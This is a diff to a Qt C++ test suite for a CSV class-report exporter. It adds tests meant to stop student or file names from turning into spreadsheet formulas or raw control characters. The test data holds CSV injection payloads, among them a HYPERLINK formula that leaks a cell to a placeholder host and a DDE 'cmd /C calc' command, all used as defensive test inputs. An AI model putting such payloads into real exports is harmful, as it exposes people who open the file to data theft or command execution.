@@ -26,7 +26,7 @@ private slots:
     void EveryTextSurvivesTheTableRoundTrip() {
         const QStringList nomes{u"plain"_s,    u"Bob, Jr."_s, u"say \"hi\""_s,   u"two\r\nlines"_s,
                                 u"cr\ronly"_s, u"lf\nonly"_s, u"Zoë Ærø 学生"_s, u"\"\""_s,
-                                u""_s,         u" spaced "_s, u"=1+1"_s};
+                                u""_s,         u" spaced "_s, u"a=1+1"_s};
         QList<TLinhaTurma> linhas;
         for (const QString& nome : nomes) {
             TLinhaTurma l = Linha(EConferencia::Verificado, nome, 1, 2, 3.0);
@@ -40,6 +40,41 @@ private slots:
             QCOMPARE(lidas.at(i + 1), CamposLinha(linhas.at(i)));
             QCOMPARE(lidas.at(i + 1).at(1), nomes.at(i));
         }
+    }
+
+    void StudentTextNeverBecomesAFormulaOrAControl_data() {
+        QTest::addColumn<QString>("texto");
+        QTest::addColumn<QString>("escrito");
+        QTest::newRow("hyperlink") << u"=HYPERLINK(\"http://x.test/?\"&A1,\"cv\")"_s
+                                   << u"'=HYPERLINK(\"http://x.test/?\"&A1,\"cv\")"_s;
+        QTest::newRow("command") << u"+cmd|' /C calc'!A0"_s << u"'+cmd|' /C calc'!A0"_s;
+        QTest::newRow("minus") << u"-2+3"_s << u"'-2+3"_s;
+        QTest::newRow("at") << u"@SUM(A1:A9)"_s << u"'@SUM(A1:A9)"_s;
+        QTest::newRow("tab first") << u"\t=1"_s << u"'\t=1"_s;
+        QTest::newRow("CR first") << u"\r\n=1"_s << u"'\r\n=1"_s;
+        QTest::newRow("sign inside") << u"a=b-c"_s << u"a=b-c"_s;
+        QTest::newRow("blank first") << u" =1"_s << u" =1"_s;
+        QTest::newRow("placeholders") << u"%1 %2 100%"_s << u"%1 %2 100%"_s;
+        QTest::newRow("controls") << u"a\x07" "b\x1b[2J\x7f\u0085"_s
+                                  << u"a\ufffdb\ufffd[2J\ufffd\ufffd"_s;
+        QTest::newRow("NUL") << QString(QChar(0)) + u"x"_s << u"\ufffdx"_s;
+        QTest::newRow("tab and line breaks stay") << u"a\tb\r\nc\nd"_s << u"a\tb\r\nc\nd"_s;
+    }
+    // Guards against a manager's or file's name that a teacher's spreadsheet
+    // runs as a formula (a link that sends data away, a command), and
+    // control characters written raw into the table.
+    void StudentTextNeverBecomesAFormulaOrAControl() {
+        QFETCH(QString, texto);
+        QFETCH(QString, escrito);
+        TLinhaTurma linha = Linha(EConferencia::Verificado, texto, -1, 2, -5.0);
+        linha.Arquivo = texto;
+        const QList<QStringList> lidas = LeCsv(TabelaCsv({linha}));
+        QCOMPARE(lidas.size(), 2);
+        QCOMPARE(lidas.at(1).at(0), escrito);
+        QCOMPARE(lidas.at(1).at(1), escrito);
+        // Numbers the table writes are never marked, even with a sign.
+        QCOMPARE(lidas.at(1).at(2), u"-1"_s);
+        QCOMPARE(lidas.at(1).at(5), u"-5.00"_s);
     }
 
     void ColumnsAreWrittenInTheCLocale_data() {
@@ -81,25 +116,28 @@ private slots:
             Linha(EConferencia::Divergente, u"Cy\n"_s, 1, 2, 2),
             Linha(EConferencia::Ilegivel, u"Di"_s, {}, {}, {}),
             Linha(EConferencia::Ilegivel, u"Di"_s, 4, {}, {}),
+            Linha(v, u"%1 %2 100%"_s, 1, 60, 9500),
+            Linha(v, u"%1 %2 100%"_s, 2, 60, 9500),
         };
         const TResumoTurma r = ResumeTurma(linhas);
-        QCOMPARE(r.Jogos, 10);
-        QCOMPARE(r.Verificados, 5);
+        QCOMPARE(r.Jogos, 12);
+        QCOMPARE(r.Verificados, 7);
         QCOMPARE(r.Divergentes, 2);
         QCOMPARE(r.NaoVerificados, 1);
         QCOMPARE(r.Ilegiveis, 2);
-        QCOMPARE(r.Concluidos, 4);
-        QCOMPARE(r.MedianaDias, 35.0);
+        QCOMPARE(r.Concluidos, 6);
+        QCOMPARE(r.MedianaDias, 45.5);
         QCOMPARE(r.MelhorDias, 20);
-        QCOMPARE(r.MedianaCusto, 11000.0);
+        QCOMPARE(r.MedianaCusto, 9750.0);
         QCOMPARE(r.MelhorCusto, 9000.0);
         const QStringList texto = TextoResumo(r, linhas).split(u'\n');
-        QCOMPARE(
-            texto.mid(0, 3),
-            (QStringList{u"games: 10 (5 verified, 2 mismatch, 1 unverified, 2 unreadable)"_s,
-                         u"verified concluded games: 4; days: median 35, best 20; cost: median "
-                         "11000.00, best 9000.00"_s,
-                         u"managers with more than one counted game: \"Ana\" (2), \"Bo\" (3)"_s}));
+        // A name full of placeholders is shown as it is.
+        QCOMPARE(texto.mid(0, 3),
+                 (QStringList{u"games: 12 (7 verified, 2 mismatch, 1 unverified, 2 unreadable)"_s,
+                              u"verified concluded games: 6; days: median 45.5, best 20; cost: "
+                              "median 9750.00, best 9000.00"_s,
+                              u"managers with more than one counted game: \"%1 %2 100%\" (2), "
+                              "\"Ana\" (2), \"Bo\" (3)"_s}));
         // One whole line per mismatch and unreadable file, and nothing after.
         QCOMPARE(texto.size(), 3 + 4 + 1);
         QCOMPARE(texto.at(3), u"mismatch: f.json: why\\nnot"_s);
